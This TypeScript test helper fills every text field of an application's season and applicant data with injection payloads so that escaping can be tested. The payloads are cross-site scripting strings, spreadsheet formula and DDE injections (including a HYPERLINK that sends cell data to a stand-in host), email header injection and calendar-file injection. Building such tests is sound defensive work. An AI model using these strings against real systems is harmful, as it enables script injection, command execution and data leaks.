import { APPLICANT } from "@/lib/season/fields/applicant";
import { eachField, type Field, type Fields, type Row } from "@/lib/season/fields/field";
import { EACH_LIST } from "@/lib/season/fields/season";
import { SETTINGS } from "@/lib/season/fields/settings";
import { type Season, seasonSchema } from "@/lib/season/schema";

/** What would run, or fetch from elsewhere, wherever text is taken for anything but text. */
export const PAYLOADS = [
  `<script>window.ran="script"</script>`,
  `<img src=https://elsewhere.example/a.png onerror="window.ran='img'">`,
  `"><svg/onload=window.ran='svg'>`,
  `' onmouseover='window.ran="attribute"' autofocus onfocus='window.ran="focus"' x='`,
  `</textarea></title></style><script>window.ran="closed"</script>`,
  `javascript:window.ran='link'//`,
  `</script><script>window.ran="inline"</script>`,
  `<iframe srcdoc="<script>parent.ran='frame'</script>"></iframe>`,
  `<link rel=stylesheet href=https://elsewhere.example/a.css><style>@import "https://elsewhere.example/b.css";</style>`,
  `<base href=https://elsewhere.example/>{{constructor.constructor('window.ran=1')()}}\${window.ran=1}`,
  `&lt;img src=x onerror=window.ran='entity'&gt;\u2028window.ran="line"\u2029<!--><math><mtext><img onerror=window.ran='math' src=x>`,
  `<html><head><meta http-equiv="refresh" content="0;url=javascript:window.ran='mail'"></head><body onload="window.ran='mail'" background="https://elsewhere.example/b.png"><form action="https://elsewhere.example/"><input autofocus onfocus="window.ran='mail'"></form><table style="background:url(https://elsewhere.example/c.png)"><tr><td>Dear Dr. Reyes</td></tr></table></body></html>`,
  `=HYPERLINK("https://elsewhere.example/?"&A1,"=1+1")`,
  `+1+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3`,
];
/** What would begin a property, a header, or a field of its own in a file made of lines. */
const LINES = [
  `A line\r\nBcc: everybody@elsewhere.example\r\n\r\n<script>window.ran="header"</script>`,
  `A line\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Intruded\r\nATTACH:https://elsewhere.example/`,
  `A line\n=1+1,"=2+2"`,
];

/** What a line of text may hold. */
const MOST_LINE = 500;

/** Makes seasons of which each text holds a payload, one after another; what each field took is in `took`. */
export function poisoner() {
  const took = new Map<string, number>();
  let next = 0;
  const inTurn = (texts: readonly string[]) => texts[next++ % texts.length] ?? "";

  function poison(path: string, field: Field, value: unknown): unknown {
    switch (field.kind) {
      case "line":
      case "note":
      case "letter":
        took.set(path, (took.get(path) ?? 0) + 1);
        return inTurn(field.kind === "line" ? PAYLOADS : [...PAYLOADS, ...LINES]).slice(0, field.most ?? MOST_LINE);
      case "texts":
        took.set(path, (took.get(path) ?? 0) + 1);
        return [inTurn(PAYLOADS), inTurn(PAYLOADS)];
      case "parts":
        return Array.isArray(value) ? value.map((part) => poisonRow(path, field.of, part)) : value;
      case "group":
        return typeof value === "object" && value !== null ? poisonRow(path, field.of, { ...value }) : value;
      default:
        return value;
    }
  }
  function poisonRow(path: string, fields: Fields, row: Row): Row {
    const texts = eachField(fields).map(([name, field]) => [name, poison(`${path}.${name}`, field, row[name])]);
    return { ...row, ...Object.fromEntries(texts.filter(([, value]) => value !== undefined)) };
  }

  return {
    took,
    season(season: Season): Season {
      const lists = EACH_LIST.map(({ name, fields }) => {
        const rows: readonly Row[] = season[name];
        return [name, rows.map((row) => poisonRow(name, fields, row))];
      });
      return seasonSchema.parse({
        ...season,
        season: poisonRow("season", SETTINGS, season.season),
        applicant: poisonRow("applicant", APPLICANT, season.applicant),
        ...Object.fromEntries(lists),
      });
    },
  };
}

/** The path of every text of a season, by what its fields say. */
export function everyText(): string[] {
  const textsOf = (path: string, fields: Fields): string[] =>
    eachField(fields).flatMap(([name, field]) => {
      const here = `${path}.${name}`;
      if (field.kind === "parts" || field.kind === "group") return textsOf(here, field.of);
      return ["line", "note", "letter", "texts"].includes(field.kind) ? [here] : [];
    });
  return [
    ...textsOf("season", SETTINGS),
    ...textsOf("applicant", APPLICANT),
    ...EACH_LIST.flatMap(({ name, fields }) => textsOf(name, fields)),
  ];
}
